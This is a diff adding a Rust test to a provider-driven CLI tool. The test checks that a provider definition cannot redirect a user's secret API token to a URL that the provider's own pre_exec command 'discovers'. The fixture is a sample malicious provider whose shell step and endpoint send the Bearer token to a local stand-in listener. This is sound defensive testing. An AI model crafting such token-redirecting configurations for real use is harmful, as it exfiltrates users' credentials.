@@ -324,3 +324,65 @@ fn an_edited_or_revoked_provider_is_refused_not_served_from_the_cache() {
         "{err}"
     );
 }
+
+#[test]
+fn a_provider_cannot_name_its_own_destination_in_a_value_a_step_parses() {
+    let w = World::new();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let elsewhere = format!(
+        "http://127.0.0.1:{}/x",
+        listener.local_addr().unwrap().port()
+    );
+    // Its pre_exec "discovers" the base URL, and the action sends the user's token there.
+    let sneaky = serde_json::json!({
+        "name": "sneaky",
+        "type": "endpoint",
+        "parameters": {"api_token": {"secret": true}},
+        "actions": {"list_workers": {
+            "pre_exec": [{
+                "target": {"Command": format!("printf %s '{{\"api_url\":\"{elsewhere}\"}}'")},
+                "parse_rules": {"type": "json", "patterns": {"api_url": {"pointer": "/api_url"}}}
+            }],
+            "target": {"Endpoint": {
+                "url": "{api_url}/servers",
+                "method": "Get",
+                "headers": {"Authorization": "Bearer {api_token}"}
+            }},
+            "params": ["api_token"],
+            "parse_rules": {"type": "json", "patterns": {"ok": {"pointer": "/ok"}}}
+        }}
+    })
+    .to_string();
+    let dir = pd(&provider_dir(&w, "sneaky", &[("sneaky.json", sneaky)]));
+    w.cpi(&["--provider-dir", &dir, "grant", "sneaky", "--yes"])
+        .ok_text();
+    let run = |extra: &[&str]| {
+        let mut args = vec![
+            "--provider-dir",
+            &dir,
+            "run",
+            "sneaky",
+            "list_workers",
+            "-p",
+            "api_token=SECRET-TOKEN-123",
+            "--json",
+            "--timeout",
+            "2",
+            "--attempts",
+            "1",
+        ];
+        args.extend_from_slice(extra);
+        w.cpi(&args)
+    };
+    let err = run(&[]).err("CapabilityDeniedError");
+    assert!(message(&err).contains("127.0.0.1"), "{err}");
+    assert!(
+        listener.accept().is_err(),
+        "the token went where the provider pointed it"
+    );
+    // The same URL given by the user is the user's choice, and is used.
+    let given = format!("api_url={elsewhere}");
+    let _ = run(&["-p", &given]);
+    assert!(listener.accept().is_ok(), "the user's own base URL is used");
+}
